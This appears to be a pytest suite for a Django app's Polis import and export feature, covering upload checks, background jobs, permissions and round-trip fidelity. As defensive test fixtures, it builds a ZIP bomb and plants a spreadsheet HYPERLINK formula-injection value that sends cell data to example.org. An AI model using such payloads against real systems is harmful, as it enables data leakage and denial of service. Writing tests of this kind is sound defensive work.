"""Staff import a Polis export from the site: the upload is checked and stored, the import runs
in the background with its progress on a page, and ends in a report or a reason; the
conversation comes back out in Polis's format and in again with the same groups."""

from __future__ import annotations

import datetime
import io
import zipfile

import numpy as np
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from koproduktion.core.audit import REGISTRY
from koproduktion.core.models import AuditEntry
from koproduktion.core.roles import Role
from koproduktion.core.tests.factories import person_with_role
from koproduktion.opinions import background
from koproduktion.opinions.import_messages import MESSAGES
from koproduktion.opinions.models import (
    OpinionMap,
    Participant,
    PolisImport,
    Statement,
    StatementVote,
)
from koproduktion.opinions.polis_export import SAMPLE_CONVERSATIONS
from koproduktion.opinions.polis_problems import ERRORS, NOTICES
from koproduktion.opinions.polismath import adjusted_rand_index
from koproduktion.projects.capabilities import PhaseKind
from koproduktion.projects.tests.factories import ProjectFactory

from .factories import StatementFactory

pytestmark = pytest.mark.django_db

SEATTLE = SAMPLE_CONVERSATIONS / "15-per-hour-seattle"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def project():
    return ProjectFactory(phase=PhaseKind.DIALOGUE)


@pytest.fixture
def manager(project):
    return person_with_role(project.municipality, Role.COORDINATION)


def _url(name: str, project, *args) -> str:
    return reverse(f"opinions:{name}", args=[project.municipality.slug, project.slug, *args])


def _files(directory=SEATTLE, names=("comments.csv", "votes.csv", "participants-votes.csv")):
    return [
        SimpleUploadedFile(name, (directory / name).read_bytes(), content_type="text/csv")
        for name in names
    ]


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _stored_files(settings) -> list:
    root = settings.MEDIA_ROOT
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def _upload(client, project, files, **extra):
    return client.post(_url("import", project), {"dateien": files}, **extra)


def test_every_problem_and_notice_is_said_in_the_staffs_language():
    assert set(ERRORS) | set(NOTICES) <= set(MESSAGES)


def test_a_manager_imports_a_real_export_and_reads_the_report(
    client, project, manager, settings, django_capture_on_commit_callbacks
):
    client.force_login(manager)
    page = client.get(_url("import", project))
    assert page.status_code == 200
    assert 'enctype="multipart/form-data"' in page.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = _upload(client, project, _files())
    job = PolisImport.objects.get(project=project)
    assert response.status_code == 302
    assert response["Location"] == _url("import_status", project, job.pk)
    assert job.status == PolisImport.Status.QUEUED
    assert [f["name"] for f in job.files] == ["comments.csv", "votes.csv", "participants-votes.csv"]
    assert len(_stored_files(settings)) == 3
    # Stored under names of its own, never those given.
    assert not any(p.name.endswith(".csv") for p in _stored_files(settings))
    assert background.held() == [("run_polis_import", {"import_id": job.pk})]
    assert "wartet" in client.get(_url("import_status", project, job.pk)).content.decode()
    assert not Statement.objects.filter(project=project).exists()
    entry = AuditEntry.objects.get(action="opinions.polis_import_request")
    assert entry.actor == manager

    background.run_held()
    job.refresh_from_db()
    assert job.status == PolisImport.Status.DONE
    assert job.report["statements"] == 54
    assert job.report["participants"] == 339
    assert job.report["votes"] == 2872
    assert job.report["vote_rows"] == 2995
    assert job.report["polis_groups"] == 2
    assert job.report["agreement_with_polis"] >= 0.54
    assert _stored_files(settings) == []  # the upload is deleted once imported
    assert Participant.objects.filter(project=project).count() == 339
    assert Participant.objects.filter(project=project, polis_group__isnull=False).count() == 138
    assert OpinionMap.objects.get(project=project).result["groups"]

    page = client.get(_url("import_status", project, job.pk)).content.decode()
    assert "Der Import ist fertig." in page
    assert "hx-trigger" not in page  # finished: nothing to poll
    assert "Nichts wurde übersprungen." in page


def test_a_zip_with_skipped_rows_is_reported_with_lines(
    client, project, manager, django_capture_on_commit_callbacks
):
    votes = (SEATTLE / "votes.csv").read_bytes() + b"1403054214196,x,999,7,1\n"
    archive = _zip(
        {
            "export/comments.csv": (SEATTLE / "comments.csv").read_bytes(),
            "export/votes.csv": votes,
            "export/stats-history.csv": b"n-votes\n1\n",
        }
    )
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        response = _upload(client, project, [SimpleUploadedFile("polis.zip", archive)])
    assert response.status_code == 302
    background.run_held()
    job = PolisImport.objects.get(project=project)
    assert job.status == PolisImport.Status.DONE
    page = client.get(_url("import_status", project, job.pk)).content.decode()
    assert "polis.zip: export/votes.csv, Zeile 2997" in page
    assert "Stimme zu einer These, die nicht in comments.csv steht (comment-id 999)" in page
    assert "polis.zip: export/stats-history.csv: Die Datei wird nicht gebraucht." in page


def test_a_broken_line_found_in_the_background_names_file_line_and_column(
    client, project, manager, django_capture_on_commit_callbacks
):
    lines = (SEATTLE / "votes.csv").read_text().splitlines()
    lines[41] = lines[41].rsplit(",", 1)[0] + ",vielleicht"
    broken = SimpleUploadedFile("votes.csv", ("\n".join(lines) + "\n").encode())
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        _upload(client, project, [*_files(names=("comments.csv",)), broken])
    background.run_held()
    job = PolisImport.objects.get(project=project)
    assert job.status == PolisImport.Status.FAILED
    page = client.get(_url("import_status", project, job.pk)).content.decode()
    assert "Der Import ist fehlgeschlagen; es wurde nichts gespeichert." in page
    assert (
        "votes.csv, Zeile 42, Spalte 5 („vote“): „vielleicht“ ist keine Stimme "
        "(erlaubt sind -1, 0 und 1)." in page
    )
    assert not Statement.objects.filter(project=project).exists()
    assert not Participant.objects.filter(project=project).exists()


def _bomb() -> bytes:
    """A 300 kB ZIP that unpacks to 300 MB: refused from its directory, nothing unpacked."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("comments.csv", "w", force_zip64=True) as member,
    ):
        member.write(b"comment-id,comment-body\n")
        zeros = b"0" * (1024 * 1024)
        for _ in range(300):
            member.write(zeros)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("files", "message"),
    [
        (
            lambda: [SimpleUploadedFile("notes.txt", b"hello")],
            "notes.txt: Diese Datei gehört nicht zu einem Polis-Export",
        ),
        (
            lambda: [
                SimpleUploadedFile("comments.csv", "Straße,ä\n".encode("cp1252")),
                *_files(names=("votes.csv",)),
            ],
            "comments.csv, Zeile 1: Kein UTF-8-Text (Byte 0xDF ist nicht lesbar)",
        ),
        (
            lambda: [
                SimpleUploadedFile("comments.csv", b"\x89PNG\r\n\x1a\n\x00\x00"),
                *_files(names=("votes.csv",)),
            ],
            "comments.csv: Das ist keine CSV-Textdatei",
        ),
        (
            lambda: [SimpleUploadedFile("export.zip", b"PK\x03\x04 not really")],
            "export.zip: Das ist kein ZIP-Archiv.",
        ),
        (
            lambda: [SimpleUploadedFile("export.zip", _zip({"a.csv": b"x"})), *_files()],
            "Bitte laden Sie ein ZIP-Archiv allein hoch",
        ),
        (
            lambda: [SimpleUploadedFile("export.zip", _bomb())],
            "export.zip: comments.csv: Die Datei ist entpackt größer als 250 MB.",
        ),
        (
            lambda: [SimpleUploadedFile("x.zip", _zip({f"{i}.csv": b"" for i in range(65)}))],
            "Das ZIP-Archiv enthält mehr als 64 Dateien.",
        ),
        (
            lambda: _files(names=("votes.csv",)),
            "Die Datei comments.csv (die Thesen) fehlt im Export.",
        ),
        (
            lambda: [*_files(names=("comments.csv", "votes.csv")), *_files(names=("votes.csv",))],
            "Zwei Dateien für votes.csv",
        ),
        (list, "Dieses Feld ist zwingend erforderlich."),
    ],
)
def test_uploads_that_cannot_be_imported_are_refused_next_to_the_field(  # noqa: PLR0917 - fixtures
    client, project, manager, settings, files, message
):
    client.force_login(manager)
    response = _upload(client, project, files())
    assert response.status_code == 400
    page = response.content.decode()
    assert message in page
    assert 'id="id_dateien_errors"' in page
    assert not PolisImport.objects.exists()
    assert _stored_files(settings) == []


def test_an_upload_past_the_size_limit_is_refused_before_it_is_read(
    client, project, manager, settings, monkeypatch
):
    monkeypatch.setattr("koproduktion.opinions.import_views.UPLOAD_MAX_BYTES", 100_000)
    client.force_login(manager)
    big = SimpleUploadedFile("votes.csv", b"timestamp,comment-id,voter-id,vote\n" * 5000)
    response = _upload(client, project, [*_files(names=("comments.csv",)), big])
    assert response.status_code == 413
    assert "Die Dateien sind zusammen größer als 97,7" in response.content.decode()
    assert not PolisImport.objects.exists()
    assert _stored_files(settings) == []


@pytest.mark.parametrize("role", [Role.RESIDENT, Role.MODERATOR, Role.COUNCIL, None])
def test_only_who_manages_the_project_imports_and_exports(client, project, role):
    client.force_login(person_with_role(project.municipality, role))
    assert client.get(_url("import", project)).status_code == 404
    assert _upload(client, project, _files()).status_code == 404
    assert client.get(_url("export", project)).status_code == 404
    assert not PolisImport.objects.exists()


def test_a_map_with_statements_takes_no_import(client, project, manager):
    StatementFactory(project=project)
    client.force_login(manager)
    page = client.get(_url("import", project)).content.decode()
    assert "kann nur in ein leeres Meinungsbild importiert werden" in page
    assert 'type="file"' not in page
    response = _upload(client, project, _files())
    assert response.status_code == 403
    assert "kann nur in ein leeres Meinungsbild importiert werden" in response.content.decode()
    assert not PolisImport.objects.exists()


def test_one_import_at_a_time(client, project, manager, django_capture_on_commit_callbacks):
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        _upload(client, project, _files())
    response = _upload(client, project, _files())
    assert response.status_code == 403
    assert "Ein Import in dieses Meinungsbild läuft schon." in response.content.decode()
    assert PolisImport.objects.count() == 1


def test_an_import_whose_worker_stopped_long_ago_blocks_no_new_one(
    client, project, manager, django_capture_on_commit_callbacks
):
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        _upload(client, project, _files())
    PolisImport.objects.update(created_at=timezone.now() - datetime.timedelta(hours=3))
    background.discard_held()  # the worker that would have run it is gone
    with django_capture_on_commit_callbacks(execute=True):
        assert _upload(client, project, _files()).status_code == 302
    background.run_held()
    assert PolisImport.objects.filter(status=PolisImport.Status.DONE).count() == 1
    assert Statement.objects.filter(project=project).count() == 54


def test_an_import_delivered_twice_runs_once(
    client, project, manager, django_capture_on_commit_callbacks
):
    from koproduktion.opinions.importer import polis_import_run  # noqa: PLC0415

    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        _upload(client, project, _files())
    job = PolisImport.objects.get()
    polis_import_run(import_id=job.pk)
    polis_import_run(import_id=job.pk)
    assert Statement.objects.filter(project=project).count() == 54


def _groups(project) -> dict[str, int]:
    """Each participant's group, by the id they have in the export."""
    external = dict(Participant.objects.filter(project=project).values_list("pk", "external_id"))
    result = OpinionMap.objects.get(project=project).result
    return {external[pk]: g["id"] for g in result["groups"] for pk in g["members"]}


def test_import_export_import_gives_the_same_groups(
    client, project, manager, django_capture_on_commit_callbacks
):
    client.force_login(manager)
    with django_capture_on_commit_callbacks(execute=True):
        _upload(client, project, _files())
    background.run_held()
    first = _groups(project)
    # A resident's statement that a spreadsheet would run as a formula.
    formula = '=HYPERLINK("https://example.org/?"&A1;"Mehr lesen")'
    Statement.objects.filter(
        pk=Statement.objects.filter(project=project).order_by("pk")[0].pk
    ).update(text=formula)

    response = client.get(_url("export", project))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    archive = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(archive)) as exported:
        names = set(exported.namelist())
        assert names == {
            "format.json",
            "summary.csv",
            "comments.csv",
            "votes.csv",
            "participants-votes.csv",
        }
        summary = exported.read("summary.csv").decode()
        comments = exported.read("comments.csv").decode()
    # Opened in a spreadsheet, the statement is text; imported again, it is what was written.
    quoted = "'" + formula.replace('"', '""')
    assert f',"{quoted}"' in comments
    assert "vote-convention,agree=+1;disagree=-1;pass=0;format=polis-export/1" in summary

    again = ProjectFactory(municipality=project.municipality, phase=PhaseKind.DIALOGUE)
    with django_capture_on_commit_callbacks(execute=True):
        _upload(client, again, [SimpleUploadedFile("wieder.zip", archive)])
    background.run_held()
    job = PolisImport.objects.get(project=again)
    assert job.status == PolisImport.Status.DONE, job.error
    # What the export declares, and nothing skipped.
    assert {n["code"] for n in job.report["notices"]} == {"convention_declared"}
    second = _groups(again)
    assert second == first
    # Our groups went out as group-id and came back as Polis's groups: identical.
    assert job.report["agreement_with_polis"] == 1.0
    assert StatementVote.objects.filter(project=again).count() == 2872
    assert sorted(
        Statement.objects.filter(project=again).values_list("external_id", "status", "text")
    ) == sorted(
        Statement.objects.filter(project=project).values_list("external_id", "status", "text")
    )
    ours = np.array([first[k] for k in sorted(first)])
    theirs = np.array([second[k] for k in sorted(first)])
    assert adjusted_rand_index(ours, theirs) == 1.0


def test_the_upload_service_is_in_the_administrations_log():
    assert "opinions.polis_import_request" in REGISTRY
